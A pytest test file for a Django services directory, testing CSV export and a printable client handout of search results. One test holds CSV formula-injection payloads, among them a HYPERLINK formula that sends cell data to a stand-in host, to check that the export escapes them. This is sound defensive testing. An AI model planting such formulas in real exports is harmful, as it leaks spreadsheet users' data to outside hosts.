"""The same search as CSV (all rows) and as a printable handout for the client."""

import csv
import io

import pytest

from directory.models import Organization
from services.models import Service
from services.views import PRINT_LIMIT
from tests.factories import OrganizationFactory, ServiceAreaFactory
from tests.services.conftest import THU, outreach, premises

pytestmark = pytest.mark.usefixtures("pinned_now", "en_client")

SECRETS = {
    "referral_process": "SECRET-REFERRAL",
    "response_time": "SECRET-RESPONSE",
    "caseworker_may_join": "arrange",
    "professional_contact": "SECRET-CONTACT",
}


def rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.fixture
def many(humpolec):
    for number in range(25):
        outreach(humpolec, THU, name=f"Služba {number:02}")


def test_csv_has_every_row_not_just_one_page(client, many):
    response = client.get("/services/?town=Humpolec&day=thu&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="sluzby.csv"'
    table = rows(response)
    assert table[0][:5] == ["Service", "Organization", "Status", "Types", "Why it matches"]
    assert [row[0] for row in table[1:]] == [f"Služba {number:02}" for number in range(25)]


def test_csv_row_says_where_when_and_how_to_reach(client, humpolec):
    centre = premises(
        humpolec,
        days=(THU,),
        name="Kontaktní centrum Humpolec",
        organization=OrganizationFactory(name="Společnost Podané ruce"),
        phone="+420 567 000 111",
        email="kc@example.cz",
        is_anonymous=True,
        is_free=False,
        cost_note="50 Kč za test",
    ).service
    [header, row] = rows(client.get("/services/?town=Humpolec&day=thu&format=csv"))
    record = dict(zip(header, row, strict=True))
    assert record["Service"] == "Kontaktní centrum Humpolec"
    assert record["Organization"] == "Společnost Podané ruce"
    assert record["Status"] == "active"
    assert record["Why it matches"] == "Humpolec: every Thursday 09:00–17:00"
    assert record["Next opening"] == "Thu 26. 11. 09:00–17:00"
    assert record["Address"] == "Náměstí 1, 396 01 Humpolec"
    assert record["Phone"] == "'+420 567 000 111"  # a leading + would start a formula
    assert record["E-mail"] == "kc@example.cz"
    assert record["Anonymous"] == "yes"
    assert record["Free of charge"] == "no (50 Kč za test)"
    assert record["Distance (km)"] == "0.0"
    assert record["Profile"] == f"http://testserver/services/{centre.slug}/"


def test_csv_never_contains_professional_information(client, professional_client, humpolec):
    service = outreach(humpolec, THU).service
    Service.objects.filter(pk=service.pk).update(**SECRETS)
    labels = {str(Service._meta.get_field(name).verbose_name) for name in SECRETS}
    for viewer in (client, professional_client):
        response = viewer.get("/services/?town=Humpolec&format=csv")
        text = response.content.decode()
        assert "Terénní program" in text
        assert "SECRET" not in text
        assert "by arrangement" not in text
        assert not labels & set(rows(response)[0])


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x/?"&A1,"Klikni")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_csv_cells_cannot_run_as_formulas(client, humpolec, text):
    service = outreach(humpolec, THU, name=text).service
    Organization.objects.filter(pk=service.organization_id).update(name=text)
    response = client.get("/services/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    [header, row] = rows(response)
    record = dict(zip(header, row, strict=True))
    assert (record["Service"], record["Organization"]) == ("'" + text, "'" + text)


def test_csv_of_a_bad_search_is_a_400_with_the_reasons(client, db):
    response = client.get("/services/?day=funday&format=csv")
    assert response.status_code == 400
    assert "“funday” is not a day" in response.content.decode()


def test_an_unknown_format_is_a_400(client, db):
    assert client.get("/services/?format=xml").status_code == 400


def test_print_handout_lists_every_result_with_address_hours_phone(client, humpolec, many):
    premises(
        humpolec,
        days=(THU,),
        name="Kontaktní centrum",
        phone="+420 567 000 111",
        is_anonymous=True,
    )
    response = client.get("/services/?town=Humpolec&day=thu&print=1")
    assert response.status_code == 200
    assert next(t.name for t in response.templates) == "services/search_print.html"
    assert len(response.context["results"]) == 26
    text = response.text
    assert "Where to find help" in text
    assert "Humpolec · Thu" in text
    assert "Náměstí 1, 396 01 Humpolec" in text
    assert "Humpolec: every Thursday 09:00–17:00" in text
    assert "+420 567 000 111" in text
    assert "Anonymous: you need not give your name." in text
    assert "Free of charge." in text
    assert 'href="/services/?town=Humpolec&amp;day=thu">Back to the search' in text
    assert 'class="pagination"' not in text


def test_print_handout_is_capped(client, humpolec):
    for number in range(PRINT_LIMIT + 1):
        outreach(humpolec, THU, name=f"Služba {number:03}")
    response = client.get("/services/?print=1")
    assert len(response.context["results"]) == PRINT_LIMIT
    assert f"Only the first {PRINT_LIMIT} services are printed" in response.text


def test_print_button_is_a_plain_link(client, humpolec):
    outreach(humpolec, THU)
    response = client.get("/services/?town=Humpolec")
    assert '<a class="button" href="?town=Humpolec&amp;print=1">Print for client</a>' in (
        response.text
    )


def test_an_area_only_service_says_how_to_arrange_contact_not_its_area_as_a_time(
    client, humpolec, jihlava
):
    # Seen in Jihlava on Thursdays, covering the whole ORP Humpolec without a stop there.
    schedule = outreach(jihlava, THU, name="Terénní program kraje")
    ServiceAreaFactory(service=schedule.service, orp=humpolec.orp)
    handout = client.get("/services/?town=Humpolec&print=1").text
    item = handout.split("Terénní program kraje")[1].split("</li>")[0]
    assert "Next opening:</strong> no regular hours in Humpolec: call or write" in item
    assert "Thu" not in item and "Jihlava" not in item  # no time borrowed from Jihlava
    assert "covers" not in item  # the area is not a time
    csv = client.get("/services/?town=Humpolec&format=csv").content.decode()
    [row] = [line for line in csv.splitlines() if "Terénní program kraje" in line]
    assert "no regular hours in Humpolec" in row and "Jihlava" not in row
